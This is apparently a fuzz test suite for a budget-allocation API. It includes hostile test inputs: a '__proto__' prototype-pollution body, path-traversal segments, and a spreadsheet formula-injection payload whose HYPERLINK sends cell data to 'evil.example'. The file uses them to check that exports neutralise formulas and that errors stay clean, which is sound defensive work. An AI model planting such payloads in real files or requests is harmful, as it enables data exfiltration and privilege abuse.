import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toPath } from '../../domain/problems';
import { routes } from '../../functions/routes';
import { SAMPLE_DATASET, SAMPLE_RULESET } from '../support/api';
import { expectClientError, FuzzTally, leakIn } from '../reliability/support/errors';
import { startTestService, type Reply, type TestService } from '../reliability/support/service';
import { allPaths, brokenWorkbook, csvFile, jsonFile, randomBytesFile, sampleRuleSetJson, sampleWorkbook, withValueAt, wrongValuesFor } from './inputs';

/**
 * Every API body and parameter fuzzed through the real local server: each answer is a success or a clean 4xx —
 * never a 5xx, a stack or internals — and a refused write leaves the table exactly as it was.
 */
const tally = new FuzzTally();
let api: TestService;
let finance: string;
let policy: string;
let publisher: string;
let draftPath: string;
let openDataset: string;
beforeAll(async () => {
  api = await startTestService();
  [finance, policy, publisher] = await Promise.all([api.token('zhang', 'finance'), api.token('wang', 'policy'), api.token('zhao', 'policy')]);
  draftPath = `/rulesets/${SAMPLE_RULESET}/drafts/${(await api.call('POST', `/rulesets/${SAMPLE_RULESET}/drafts`, { token: policy, json: {} })).body.draftId}`;
  openDataset = (await api.call('POST', '/datasets', { token: finance, json: { name: 'parts' } })).body.datasetId;
});
afterAll(async () => {
  await api?.close();
  tally.print('API');
});

/** A success, or a clean 4xx after which the table holds exactly the items it held before. */
async function expectHandledWrite(send: () => Promise<Reply>, context: string): Promise<Reply> {
  const before = await api.itemCount();
  const reply = await send();
  expect(reply.status, `${context} → ${reply.text.slice(0, 300)}`).toBeLessThan(500);
  expect(leakIn(reply.text), context).toBeUndefined();
  if (reply.status >= 400) {
    expectClientError(reply, undefined, context);
    expect(await api.itemCount(), `${context}: a refused request wrote something`).toBe(before);
  }
  return reply;
}

const anyJson = fc.jsonValue({ maxDepth: 6 });
/** A valid body with one field replaced, removed or added: wrong types in every field. */
function mutated(valid: Record<string, unknown>): fc.Arbitrary<unknown> {
  const keys = Object.keys(valid);
  return fc.oneof(
    fc.tuple(fc.constantFrom(...keys), anyJson).map(([key, value]) => ({ ...valid, [key]: value })),
    fc.constantFrom(...keys).map((key) => Object.fromEntries(Object.entries(valid).filter(([k]) => k !== key))),
    fc.tuple(fc.string({ minLength: 1, maxLength: 10 }), anyJson).map(([key, value]) => ({ ...valid, [key]: value })),
    anyJson,
  );
}

const RUN = { ruleSetId: SAMPLE_RULESET, version: 1, datasetId: SAMPLE_DATASET, fiscalYear: 2026, envelope: { policy: 'cap', budget: '90000000' }, excludeInvalid: false };
const SIMULATION = { base: { ruleSetId: SAMPLE_RULESET, version: 'latest' }, candidate: { draftId: 'seed-candidate' }, datasetId: SAMPLE_DATASET, envelope: { policy: 'none' } };
const budgets = fc.constantFrom('-1', '1e400', '9'.repeat(40) + '.999', '0.001', 'abc', '', ' 100', '１００', 'Infinity', '1_000');

describe('POST /datasets with hostile files', () => {
  it('as contentBase64 and as a raw body, in every format', async () => {
    const workbook = await sampleWorkbook();
    const file = fc.oneof(randomBytesFile, csvFile, jsonFile, brokenWorkbook(workbook));
    await fc.assert(
      fc.asyncProperty(file, fc.boolean(), async (bad, raw) => {
        tally.add(`POST /datasets (${raw ? 'raw body' : 'contentBase64'})`);
        const send = raw
          ? () => api.call('POST', `/datasets?name=fuzz&fileName=${encodeURIComponent(bad.fileName)}`, { token: finance, raw: bad.bytes, headers: { 'content-type': bad.fileName.endsWith('xlsx') ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' : 'text/csv' } })
          : () => api.call('POST', '/datasets', { token: finance, json: { name: 'fuzz', fileName: bad.fileName, contentBase64: Buffer.from(bad.bytes).toString('base64') } });
        const reply = await expectHandledWrite(send, bad.kind);
        if (reply.status === 201) expect(reply.body.status).toBe('sealed');
      }),
      { numRuns: 120, seed: 5 },
    );
  }, 120_000);

  it('parts with any part number and content', async () => {
    await fc.assert(
      fc.asyncProperty(mutated({ partNumber: 1, contentBase64: 'YQ==' }), async (body) => {
        tally.add('POST /datasets/{id}/parts');
        await expectHandledWrite(() => api.call('POST', `/datasets/${openDataset}/parts`, { token: finance, json: body }), JSON.stringify(body));
      }),
      { numRuns: 100, seed: 6 },
    );
  });
});

describe('JSON bodies with wrong types in every field', () => {
  const cases: [string, string, () => string, fc.Arbitrary<unknown>, string][] = [
    ['POST /runs', 'POST', () => '/runs', fc.oneof(mutated(RUN), budgets.map((budget) => ({ ...RUN, envelope: { policy: 'exact', budget } }))), finance],
    ['POST /rulesets/{id}/drafts', 'POST', () => `/rulesets/${SAMPLE_RULESET}/drafts`, mutated({ fromVersion: 1, changeNote: 'x' }), policy],
    ['PUT /rulesets/{id}/drafts/{draftId}', 'PUT', () => draftPath, mutated({ revision: 1, ruleSet: {}, changeNote: 'x' }), policy],
    ['POST …/drafts/{draftId}/publish', 'POST', () => `/rulesets/${SAMPLE_RULESET}/drafts/seed-candidate/publish`, mutated({ revision: 999 }), policy],
    ['POST …/drafts/{draftId}/submit', 'POST', () => `/rulesets/${SAMPLE_RULESET}/drafts/seed-candidate/submit`, mutated({ revision: 999 }), policy],
    ['POST /simulations', 'POST', () => '/simulations', mutated(SIMULATION), policy],
  ];
  for (const [entry, method, path, body, token] of cases) {
    it(entry, async () => {
      const who = token === finance ? finance : policy;
      await fc.assert(
        fc.asyncProperty(body, async (json) => {
          tally.add(entry);
          // Only POST /runs and drafts may succeed (a draft may hold anything); nothing may 5xx.
          await expectHandledWrite(() => api.call(method, path(), { token: who, json }), `${entry} ${JSON.stringify(json).slice(0, 200)}`);
        }),
        { numRuns: 80, seed: 9 },
      );
    }, 120_000);
  }

  it('a rule set with a wrong type in a field: saved as a draft, refused at publish naming the path', async () => {
    const document = sampleRuleSetJson();
    const cases = allPaths(document).flatMap((path) => wrongValuesFor(path.reduce<any>((node, segment) => node[segment], document)).map((wrong) => ({ path, wrong })));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...cases), async ({ path, wrong }) => {
        tally.add('rule set via drafts → publish (wrong type per field)');
        const ruleSet = withValueAt(document, path, wrong);
        const created = await api.call('POST', `/rulesets/${SAMPLE_RULESET}/drafts`, { token: policy, json: { ruleSet } });
        expect(created.status).toBe(201);
        if (created.body.validation.ok) return;
        const shown = toPath(path);
        const named = created.body.validation.problems.map((p: { path: string }) => p.path);
        expect(named.some((p: string) => p === shown || shown.startsWith(p) || p.startsWith(shown)), `${shown}: ${named}`).toBe(true);
        const publish = await expectHandledWrite(() => api.call('POST', `/rulesets/${SAMPLE_RULESET}/drafts/${created.body.draftId}/publish`, { token: publisher, json: { revision: created.body.revision } }), shown);
        expect(publish.status).toBe(422);
        expect(publish.body.error.details.some((d: { path: string }) => d.path.startsWith('ruleSet'))).toBe(true);
      }),
      { numRuns: 100, seed: 13 },
    );
  }, 120_000);

  it('malformed, oversized and deeply nested bodies', async () => {
    const raws: [string, string | Uint8Array][] = [
      ['truncated JSON', '{"ruleSetId": "x", "version": '],
      ['not JSON at all', 'ruleSetId=x&version=1'],
      ['deep nesting', '['.repeat(100_000) + ']'.repeat(100_000)],
      ['oversized', `{"x":"${'a'.repeat(7 * 1024 * 1024)}"}`],
      ['lone surrogates', '{"name":"\\ud800"}'],
      ['__proto__', '{"__proto__":{"admin":true},"ruleSetId":"x"}'],
      ['BOM', '\uFEFF{"ruleSetId":"x"}'],
      ['invalid UTF-8', new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d])],
    ];
    for (const route of routes.filter((r) => r.method !== 'GET')) {
      const path = route.path.replace('{id}', route.group === 'rulesets' ? SAMPLE_RULESET : route.group === 'datasets' ? openDataset : 'run-x').replace('{draftId}', 'seed-candidate');
      for (const [label, raw] of raws) {
        tally.add('malformed bodies × every write route');
        // Routes without a body schema ignore the body; the rest refuse it. Either way: no 5xx, nothing half-written.
        await expectHandledWrite(() => api.call(route.method, path, { token: route.roles.includes('finance') ? finance : policy, raw, headers: { 'content-type': 'application/json' } }), `${route.method} ${route.path} ${label}`);
      }
    }
  }, 120_000);
});

describe('query strings and path parameters', () => {
  const getRoutes = routes.filter((r) => r.method === 'GET');
  const segment = fc.oneof(fc.string({ minLength: 1, maxLength: 40 }), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 10 }), fc.constantFrom('..', '%00', 'latest', '0', '-1', '1e3', '9'.repeat(30), 'a'.repeat(300), '%E4%B8', 'null', '{}'));
  const query = fc.dictionary(fc.constantFrom('limit', 'cursor', 'from', 'to', 'format', 'lang', 'x'), fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom('-1', '0', '501', '1.5', 'NaN', 'eyJ4IjoxfQ', 'e30', 'pdf', 'xlsx')));
  it('every GET route with random ids and query values', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...getRoutes), fc.array(segment, { minLength: 3, maxLength: 3 }), query, async (route, [a, b, c], params) => {
        tally.add('GET routes × path params × query');
        const encode = (text: string) => (text.startsWith('%') ? text : encodeURIComponent(text));
        const path = route.path.replace('{id}', encode(a!)).replace(/\{(version|draftId|schoolId)\}/, encode(b!)) + '?' + new URLSearchParams(params as Record<string, string>).toString();
        const reply = await api.call('GET', path, { token: finance });
        // '..' segments can lead out of the API (to the console's page, 503 in a checkout whose console is not built).
        const leftTheApi = !new URL(path, 'http://local').pathname.startsWith(route.path.slice(0, route.path.indexOf('/', 1) + 1 || undefined));
        if (leftTheApi && reply.status === 503) {
          expect(reply.text).toContain('控制台尚未构建');
          return;
        }
        expect(reply.status, `${path} → ${reply.text.slice(0, 200)}`).toBeLessThan(500);
        expect(leakIn(reply.text)).toBeUndefined();
        if (reply.status >= 400) expectClientError(reply, [400, 403, 404, 409], path);
        void c;
      }),
      { numRuns: 300, seed: 17 },
    );
  }, 120_000);
});

describe('exports neutralise formula injection end to end', () => {
  it('a school named like a formula comes out as text in CSV and XLSX', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
    const csv = `学校代码,学校名称,学校类型,办学性质,专业代码,班级类型,在校生数\n2309999,"${evil.replace(/"/g, '""')}",技师学院,公办,0101,中级工班,100\n2309998,@SUM(1+1),技工学校,公办,0101,中级工班,50\n`;
    const dataset = await api.call('POST', '/datasets', { token: finance, json: { name: 'evil', fiscalYear: 2026, contentBase64: Buffer.from(csv).toString('base64') } });
    expect(dataset.status).toBe(201);
    const run = await api.call('POST', '/runs', { token: finance, json: { ...RUN, datasetId: dataset.body.datasetId, envelope: { policy: 'none' } } });
    expect(run.status).toBe(201);
    const exported = await api.call('GET', `/runs/${run.body.runId}/export?format=csv`, { token: finance });
    expect(exported.text).toContain(`'=HYPERLINK`);
    expect(exported.text).toContain(`'@SUM(1+1)`);
    expect(exported.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const response = await fetch(`${api.url}/runs/${run.body.runId}/export?format=xlsx`, { headers: { authorization: `Bearer ${finance}` } });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
    const texts: string[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
      texts.push(String(cell.value));
    })));
    expect(texts).toContain(`'${evil}`);
    expect(texts.filter((t) => /^[=+@]/.test(t))).toEqual([]);
  });
});
